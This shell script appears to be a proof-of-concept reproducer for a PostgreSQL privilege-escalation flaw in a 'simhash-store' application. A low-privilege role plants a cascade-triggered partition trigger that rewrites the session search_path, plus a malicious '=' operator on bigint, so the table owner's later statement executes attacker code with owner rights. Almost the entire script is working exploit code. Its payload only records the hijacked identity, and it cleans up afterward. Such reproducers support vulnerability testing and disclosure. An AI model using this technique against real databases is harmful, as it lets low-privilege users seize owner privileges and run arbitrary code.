#!/bin/sh
# h14r_app held REFERENCES on simhash.documents (part of ALL), made a partitioned table whose foreign key is
# ON DELETE CASCADE (no cast: the schema check passed once REFERENCES was revoked), with a trigger on its
# partition that sets the session's search_path to 'app, pg_catalog', and an = on bigint of its own in app.
# The owner's remove cascades into it: the trigger runs as h14r_app, but the search_path stays, and the
# owner's next statement ran app's = with the owner's rights (app.stolen: h14r_owner | = on bigint).
DB=${DB:-h14r_db}
U=postgresql://h14r_owner@127.0.0.1:5432/$DB
PY=${PY:-$(dirname "$0")/../.venv/bin/python}
SS=${SS:-$(dirname "$0")/../.venv/bin/simhash-store}
printf '{"key":"p1","text":"hello world one"}\n' | $SS --db $U add --jsonl -
psql -h 127.0.0.1 -U root -d postgres -qX -c "CREATE ROLE h14r_app LOGIN" 2>/dev/null
psql -h 127.0.0.1 -U root -d $DB -qX -c "GRANT CREATE ON DATABASE $DB TO h14r_app"
psql -h 127.0.0.1 -U h14r_owner -d $DB -qX -c "GRANT USAGE ON SCHEMA simhash TO h14r_app; GRANT SELECT, REFERENCES ON simhash.documents TO h14r_app"
psql -h 127.0.0.1 -U h14r_app -d $DB -qX <<'SQL'
CREATE SCHEMA IF NOT EXISTS app;
CREATE TABLE IF NOT EXISTS app.stolen (who text, via text);
GRANT USAGE ON SCHEMA app TO PUBLIC; GRANT INSERT ON app.stolen TO PUBLIC;
CREATE OR REPLACE FUNCTION app.note(via text) RETURNS boolean LANGUAGE sql VOLATILE
  AS $$ INSERT INTO app.stolen VALUES (current_user, via) RETURNING true $$;
CREATE OR REPLACE FUNCTION app.trg() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM app.note('trigger on ' || TG_TABLE_NAME); PERFORM pg_catalog.set_config('search_path', 'app, pg_catalog', false); RETURN OLD; END $$;
CREATE OR REPLACE FUNCTION app.eq8(bigint, bigint) RETURNS boolean LANGUAGE sql AS $$ SELECT app.note('= on bigint') AND $1 OPERATOR(pg_catalog.=) $2 $$;
CREATE OPERATOR app.= (FUNCTION = app.eq8, LEFTARG = bigint, RIGHTARG = bigint);
CREATE TABLE app.pt (k bigint REFERENCES simhash.documents (id) ON DELETE CASCADE) PARTITION BY RANGE (k);
CREATE TABLE app.pt1 PARTITION OF app.pt FOR VALUES FROM (MINVALUE) TO (MAXVALUE);
CREATE TRIGGER t BEFORE DELETE ON app.pt1 FOR EACH ROW EXECUTE FUNCTION app.trg();
SQL
psql -h 127.0.0.1 -U h14r_app -d $DB -qX -c "INSERT INTO app.pt SELECT id FROM simhash.documents WHERE key = 'p1'"
psql -h 127.0.0.1 -U h14r_owner -d $DB -qX -c "REVOKE REFERENCES ON simhash.documents FROM h14r_app"
$PY -c "
from simhash_store.store import Store
with Store('$U') as s:
    print(s.remove(['p1'])); print(s.count())
"
psql -h 127.0.0.1 -U root -d $DB -qX -c "SELECT * FROM app.stolen"
psql -h 127.0.0.1 -U root -d $DB -qX -c "DROP SCHEMA app CASCADE" -c "REVOKE ALL ON DATABASE $DB FROM h14r_app" -c "DROP OWNED BY h14r_app"
